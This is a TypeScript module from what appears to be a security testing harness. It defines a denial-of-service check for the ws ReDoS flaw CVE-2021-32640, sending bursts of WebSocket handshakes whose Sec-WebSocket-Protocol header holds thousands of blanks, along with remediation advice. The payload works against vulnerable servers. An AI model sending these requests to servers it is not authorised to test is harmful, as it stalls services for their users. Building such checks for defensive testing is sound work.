import { HarnessError } from '../../../errors.ts'
import { fetchPath } from '../../kit/fetch-path.ts'
import { stallAttack } from '../../kit/stall.ts'

/** Together with the others they fit into the 16 KB of headers that Node takes. */
const lengths = [5_000, 10_000, 15_000]
const atOnce = 6

export default stallAttack({
  id: 'dos/http-protocol-header',
  rows: ['dos.http.protocol-header-redos'],
  title: 'A few handshakes with thousands of blanks in Sec-WebSocket-Protocol: how long do all others wait?',
  requirement: 'CVE-2021-32640, CWE-1333: a header is read in linear time',
  impact: 'A few requests, of someone who never logged in, stop the server for seconds.',
  remedy: 'Keep ws at 7.4.6 or later (npm ls ws); read lists in headers without expressions that backtrack.',
  severity: 'high',
  cwe: ['CWE-1333'],
  references: ['CVE-2021-32640'],
  provenBy: 'old-ws',
  needs: ['websocket'],
  stallMs: 500,
  burdens(context) {
    const { profile } = context.target
    const path = `${profile.path.replace(/\/?$/, '/')}?EIO=${profile.protocol.eio}&transport=websocket`
    const headersWith = (value: string) =>
      [
        ['Connection', 'Upgrade'],
        ['Upgrade', 'websocket'],
        ['Sec-WebSocket-Version', '13'],
        ['Sec-WebSocket-Key', 'AAAAAAAAAAAAAAAAAAAAAA=='],
        ['Sec-WebSocket-Protocol', value],
      ] as const
    const knock = async (value: string) => {
      const answer = fetchPath(context, path, { headers: headersWith(value) })
      await answer.catch((error: unknown) => {
        // What comes of the request is not looked at: whether the others wait is.
        if (!(error instanceof HarnessError)) throw error
      })
    }
    const send = async (value: string) => {
      await Promise.all(Array.from({ length: atOnce }, () => knock(value)))
    }
    return lengths.map((length) => {
      const [heavy, light] = [`a${' '.repeat(length)}b`, `a${'x'.repeat(length)} b`]
      return {
        name: `${atOnce} handshakes with ${length} blanks`,
        heavy: () => send(heavy),
        light: () => send(light),
        script: ({ value }) => {
          const own = Object.entries(profile.request.headers)
          const sends = (text: string) =>
            `() => Promise.all(Array.from({ length: ${atOnce} }, () => ask('GET', ${value(path)}, ${value(Object.fromEntries([...own, ...headersWith(text)]))})))`
          return `[${sends(heavy)}, ${sends(light)}]`
        },
      }
    })
  },
})
